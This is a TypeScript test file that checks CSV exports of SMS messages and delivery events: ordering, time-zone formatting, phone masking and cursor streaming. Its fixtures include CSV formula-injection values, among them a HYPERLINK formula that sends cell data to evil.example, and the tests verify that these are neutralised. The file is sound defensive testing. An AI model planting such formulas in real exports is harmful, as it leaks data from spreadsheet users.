/**
 * CSV exports of the message list and the delivery log against a real database, as a viewer:
 * rows match the filtered list, times are ISO 8601 with the viewer's offset, formulas are
 * neutralised while phone numbers stay readable, and the file is streamed from a cursor in
 * batches the reader pulls (not buffered whole), ending the transaction if the reader leaves.
 */
import { createTestDatabase, createUser, phoneColumns, type TestDatabase } from '@sms/db/testing';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeHistoryCursor } from '$lib/server/sms/history-query';
import { parseDeliveryLogFilters } from './delivery-log-filters.ts';
import { listDeliveryEvents } from './delivery-log.ts';
import { eventsCsv } from './event-export.ts';
import { messagesCsv } from './message-export.ts';
import { parseMessageFilters } from './message-filters.ts';
import { listMessages } from './messages.ts';
import { isoTime, pgTime } from './csv-stream.ts';

const TZ = 'America/Los_Angeles';
const ROWS = 5000;
let t: TestDatabase;
let org: string;
let viewer: string;
const claims = () => ({ sub: viewer, role: 'authenticated' as const });
/** A number's four sealed columns, as values for `(…, phone_enc, phone_hash, phone_last4, calling_code, …)`. */
const ph = (e164: string) => {
	const p = phoneColumns(e164);
	return t.sql`${p.phone_enc}, ${p.phone_hash}, ${p.phone_last4}, ${p.calling_code}`;
};
const messageFilters = (p: Record<string, string>) => parseMessageFilters(new URLSearchParams(p), { timeZone: TZ, defaultCountry: 'US' });

async function readAll(stream: ReadableStream<Uint8Array>): Promise<{ text: string; chunks: Uint8Array[] }> {
	const chunks: Uint8Array[] = [];
	const reader = stream.getReader();
	for (;;) {
		const { done, value } = await reader.read();
		if (done) break;
		chunks.push(value);
	}
	return { text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(Buffer.concat(chunks)), chunks };
}
const records = (text: string) => parse(text, { bom: true, columns: true }) as Record<string, string>[];

beforeAll(async () => {
	t = await createTestDatabase();
	viewer = await createUser(t.sql);
	const [o] = await t.sql<{ id: string }[]>`insert into public.organizations (slug, name) values ('export-a', 'Export') returning id`;
	org = o!.id;
	await t.sql`select public.add_organization_member(${org}, ${viewer}, 'viewer')`;
	const [other] = await t.sql<{ id: string }[]>`insert into public.organizations (slug, name) values ('export-b', 'Other') returning id`;
	const [evil] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_enc, phone_hash, phone_last4, calling_code)
		values (${org}, '=HYPERLINK("http://evil.example/?x="&A1,"Click")', ${ph('+14155550123')}) returning id`;
	const [sum] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_enc, phone_hash, phone_last4, calling_code)
		values (${org}, '@SUM(1+1)', ${ph('+14155550124')}) returning id`;
	const [p3, p4] = [phoneColumns('+14155550123'), phoneColumns('+14155550124')];
	await t.sql`
		insert into public.sms_messages (organization_id, contact_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status, error_code, price, price_unit, created_at)
		select ${org}, case when i % 2 = 0 then ${evil!.id}::uuid else ${sum!.id}::uuid end,
			case when i % 2 = 0 then ${p3.phone_enc} else ${p4.phone_enc} end, case when i % 2 = 0 then ${p3.phone_hash} else ${p4.phone_hash} end,
			case when i % 2 = 0 then '0123' else '0124' end, '1',
			case when i = 1 then '+1 415 555 0123' when i = 3 then '+1 415 555 0123 called' else 'Doors open at 7' end,
			case when i % 5 = 0 then 'failed' else 'delivered' end, case when i % 5 = 0 then 30003 end,
			-0.0079, 'USD', timestamptz '2026-11-20T10:00:00Z' + i * interval '1 second'
		from generate_series(1, ${ROWS}) i`;
	const [stranger] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_enc, phone_hash, phone_last4, calling_code) values (${other!.id}, 'Stranger', ${ph('+14155550123')}) returning id`;
	await t.sql`insert into public.sms_messages (organization_id, contact_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status) values (${other!.id}, ${stranger!.id}, ${ph('+14155550123')}, 'not yours', 'failed')`;
	await t.sql`
		insert into public.sms_delivery_events (message_id, provider, status, raw_status, source, sender_ip, payload, received_at)
		select m.id, 'twilio', s.status, s.status, 'webhook', '203.0.113.9', jsonb_build_object('MessageStatus', s.status, 'Body', '=cmd'), m.created_at + s.after
		from (select * from public.sms_messages where organization_id = ${org} order by created_at limit 300) m,
			(values ('sent', interval '1 second'), ('delivered', interval '4 seconds')) s (status, after)`;
});
afterAll(async () => t?.close());

describe('messagesCsv', () => {
	it('writes the filtered list, every page of it, in the same order', async () => {
		const f = messageFilters({ verdict: 'failed', q: '0123' });
		const listed: string[] = [];
		let cursor: string | null = null;
		do {
			const page = await t.db.asUser(claims(), (tx) => listMessages(tx, org, messageFilters({ verdict: 'failed', q: '0123', limit: '100', ...(cursor ? { cursor } : {}) })));
			listed.push(...page.rows.map((r) => r.id));
			cursor = page.next ? encodeHistoryCursor(page.next) : null;
		} while (cursor);
		const { text } = await readAll(messagesCsv({ db: t.db, claims: claims(), organizationId: org, filters: f, timeZone: TZ, showNumbers: true }));
		const rows = records(text);
		expect(listed).toHaveLength(ROWS / 10);
		expect(rows.map((r) => r.id)).toEqual(listed);
		expect(rows.every((r) => r.verdict === 'failed' && r.phone === '+14155550123' && r.error === 'Unreachable handset')).toBe(true);
	});

	it('is UTF-8 with a BOM and a header; times are ISO 8601 with the offset; formulas are neutralised, phone numbers and prices stay readable', async () => {
		const { text } = await readAll(messagesCsv({ db: t.db, claims: claims(), organizationId: org, filters: messageFilters({}), timeZone: TZ, showNumbers: true }));
		expect(text.startsWith('\ufeffid,created_at,recipient,')).toBe(true);
		const rows = records(text);
		expect(rows).toHaveLength(ROWS);
		const first = rows.at(-1)!; // oldest: i = 1
		expect(first).toMatchObject({
			created_at: '2026-11-20T02:00:01.000-08:00',
			recipient: "'@SUM(1+1)",
			phone: '+14155550124',
			body: '+1 415 555 0123',
			price: '-0.00790',
			recipient_type: 'contact'
		});
		expect(rows.at(-2)).toMatchObject({ recipient: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, phone: '+14155550123' });
		expect(rows.at(-3)!.body).toBe("'+1 415 555 0123 called");
		expect(rows.some((r) => r.body === 'not yours')).toBe(false);
	});

	it("writes each time exactly as to_char(…, 'YYYY-MM-DD\"T\"HH24:MI:SS.MSTZH:TZM') would, in every kind of zone", async () => {
		for (const zone of ['America/Los_Angeles', 'UTC', 'Asia/Kolkata', 'America/St_Johns', 'Australia/Lord_Howe', 'Europe/Amsterdam']) {
			const rows = await t.sql.begin(async (tx) => {
				await tx`select set_config('timezone', ${zone}, true), set_config('datestyle', 'ISO, YMD', true)`;
				return tx.unsafe<{ pg: string; want: string }[]>(`
					select ${pgTime('x')} as pg, to_char(x, 'YYYY-MM-DD"T"HH24:MI:SS.MSTZH:TZM') as want
					from (values (timestamptz '2026-11-20T10:00:00Z'), ('2026-07-01T23:59:59.999999Z'), ('2026-03-29T01:00:00.5Z'),
						('2026-12-31T12:00:00.000123Z'), ('1890-01-01T12:00:00Z'), ('2026-01-01T00:00:00.010Z')) v (x)`);
			});
			for (const r of rows) expect(isoTime(r.pg), `${zone} ${r.pg}`).toBe(r.want);
		}
	});

	it("names users by e-mail in every batch: the look-up runs between the cursor's reads", async () => {
		const [o] = await t.sql<{ id: string }[]>`insert into public.organizations (slug, name) values ('export-users', 'Users') returning id`;
		await t.sql`select public.add_organization_member(${o!.id}, ${viewer}, 'viewer')`;
		const users = await Promise.all([1, 2, 3].map((i) => createUser(t.sql, { email: `export-user-${i}@example.com` })));
		const sealed = [0, 1, 2].map((k) => phoneColumns('+1415555020' + k));
		await t.sql`
			insert into public.sms_messages (organization_id, user_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status, created_at)
			select ${o!.id}, (${users}::uuid[])[1 + i % 3], (${sealed.map((p) => p.phone_enc)}::text[])[1 + i % 3],
				(${sealed.map((p) => p.phone_hash)}::text[])[1 + i % 3], '020' || (i % 3), '1', 'hi', 'delivered',
				timestamptz '2026-11-20T10:00:00Z' + i * interval '1 second'
			from generate_series(1, 95) i`;
		let batches = 0;
		const { text } = await readAll(messagesCsv({ db: t.db, claims: claims(), organizationId: o!.id, filters: messageFilters({}), timeZone: TZ, batchSize: 10, onBatch: () => batches++ }));
		const rows = records(text);
		expect(batches).toBe(10);
		expect(rows).toHaveLength(95);
		expect(new Set(rows.map((r) => r.recipient))).toEqual(new Set([1, 2, 3].map((i) => `export-user-${i}@example.com`)));
	});

	it('cuts numbers to the last four for members not allowed to see them (viewers may export)', async () => {
		const messages = records((await readAll(messagesCsv({ db: t.db, claims: claims(), organizationId: org, filters: messageFilters({}), timeZone: TZ }))).text);
		expect(new Set(messages.map((r) => r.phone))).toEqual(new Set(['•••• 0123', '•••• 0124']));
		const events = records((await readAll(eventsCsv({ db: t.db, claims: claims(), organizationId: org, filters: parseDeliveryLogFilters(new URLSearchParams(), { timeZone: TZ, defaultCountry: 'US' }), timeZone: TZ }))).text);
		expect(events.length).toBeGreaterThan(0);
		expect(events.every((r) => r.phone === '•••• 0123' || r.phone === '•••• 0124')).toBe(true);
	});

	it('streams from a cursor: batches are read as the reader pulls, in many chunks, never the whole result at once', async () => {
		let batches = 0;
		const stream = messagesCsv({ db: t.db, claims: claims(), organizationId: org, filters: messageFilters({}), timeZone: TZ, batchSize: 250, onBatch: () => batches++ });
		const reader = stream.getReader();
		const head = await reader.read(); // the BOM
		expect(head.done).toBe(false);
		await new Promise((r) => setTimeout(r, 500));
		// A reader that has taken one chunk has made the server read only a few batches of 20.
		expect(batches).toBeGreaterThan(0);
		expect(batches).toBeLessThanOrEqual(4);
		const chunks: Uint8Array[] = [];
		for (;;) {
			const { done, value } = await reader.read();
			if (done) break;
			chunks.push(value);
		}
		expect(batches).toBe(ROWS / 250);
		// The header, then one chunk per batch, each no bigger than a batch.
		const dataChunks = chunks.slice(1).map((c) => (parse(new TextDecoder().decode(c)) as string[][]).length);
		expect(dataChunks).toHaveLength(ROWS / 250);
		expect(Math.max(...dataChunks)).toBeLessThanOrEqual(250);
	});

	it('a reader who goes away ends the export and its transaction', async () => {
		const open = async () => {
			const [{ n }] = await t.sql<{ n: number }[]>`
				select count(*)::int as n from pg_stat_activity
				where datname = current_database() and xact_start is not null and pid <> pg_backend_pid()`;
			return n;
		};
		let batches = 0;
		const reader = messagesCsv({ db: t.db, claims: claims(), organizationId: org, filters: messageFilters({}), timeZone: TZ, batchSize: 100, onBatch: () => batches++ }).getReader();
		await reader.read();
		await reader.read();
		await new Promise((r) => setTimeout(r, 200));
		expect(await open()).toBe(1);
		await reader.cancel();
		for (let i = 0; i < 50 && (await open()) > 0; i++) await new Promise((r) => setTimeout(r, 50));
		expect(await open()).toBe(0);
		expect(batches).toBeLessThan(10);
	});
});

describe('eventsCsv', () => {
	it('writes the filtered delivery log in its order, payloads as JSON text, formulas neutralised', async () => {
		const f = parseDeliveryLogFilters(new URLSearchParams({ status: 'delivered', q: '0124' }), { timeZone: TZ, defaultCountry: 'US' });
		const listed: string[] = [];
		for (const page of [1, 2]) listed.push(...(await t.db.asUser(claims(), (tx) => listDeliveryEvents(tx, org, { ...f, page, limit: 100 }))).map((r) => r.id));
		const { text } = await readAll(eventsCsv({ db: t.db, claims: claims(), organizationId: org, filters: f, timeZone: TZ, showNumbers: true }));
		const rows = records(text);
		expect(listed).toHaveLength(150);
		expect(rows.map((r) => r.id)).toEqual(listed);
		expect(rows[0]).toMatchObject({ status: 'delivered', recipient: "'@SUM(1+1)", phone: '+14155550124', ip: '203.0.113.9', provider: 'twilio' });
		expect(JSON.parse(rows[0]!.payload!)).toEqual({ MessageStatus: 'delivered', Body: '=cmd' });
		expect(rows[0]!.received_at).toMatch(/^2026-11-20T02:\d\d:\d\d\.\d{3}-08:00$/);
	});
});
